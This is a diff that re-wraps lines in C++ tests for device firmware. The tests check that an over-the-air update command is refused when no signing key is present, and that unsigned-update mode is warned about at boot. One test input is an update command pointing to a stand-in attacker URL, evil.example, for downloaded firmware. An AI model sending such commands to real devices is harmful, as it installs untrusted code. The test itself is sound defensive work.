@@ -46,12 +46,14 @@ TEST_F(NoKeyTest, ThingsBoardUpdateIsRefusedBeforeAnyChunkIsRequested) {
 TEST_F(NoKeyTest, OtaCommandIsAnsweredWithTheReason) {
     use_profile(app::ProfileKind::Generic);
     auto in = profile->parse_inbound(
-        "devices/dev1/cmd", R"({"id":"7","cmd":"ota","params":{"url":"https://evil.example/app.bin","version":"6.6"}})");
+        "devices/dev1/cmd",
+        R"({"id":"7","cmd":"ota","params":{"url":"https://evil.example/app.bin","version":"6.6"}})");
     run(in.commands.at(0));
     spin();
     auto answers = payloads("devices/dev1/cmd/response");
     ASSERT_EQ(answers.size(), 1u);
-    EXPECT_EQ(app::Json::parse(answers[0]), app::Json::parse(std::string(R"({"id":"7","ok":false,"error":")") + kNoKey + "\"}"));
+    EXPECT_EQ(app::Json::parse(answers[0]),
+              app::Json::parse(std::string(R"({"id":"7","ok":false,"error":")") + kNoKey + "\"}"));
     EXPECT_TRUE(https.host().empty()) << "no connection to the URL's host";
 }
 
@@ -73,8 +75,9 @@ TEST_F(NoKeyTest, TheSwitchIsWarnedAboutAtEveryBoot) {
     for (int boot_no = 1; boot_no <= 2; ++boot_no) {
         b.log.lines.clear();
         power_on();
-        EXPECT_TRUE(warned("config ota_unsigned_ok is set and no update key is burned: ANY update is installed "
-                           "without a signature check"))
+        EXPECT_TRUE(
+            warned("config ota_unsigned_ok is set and no update key is burned: ANY update is installed "
+                   "without a signature check"))
             << "boot " << boot_no;
     }
     key.burn_into(b.efuse);
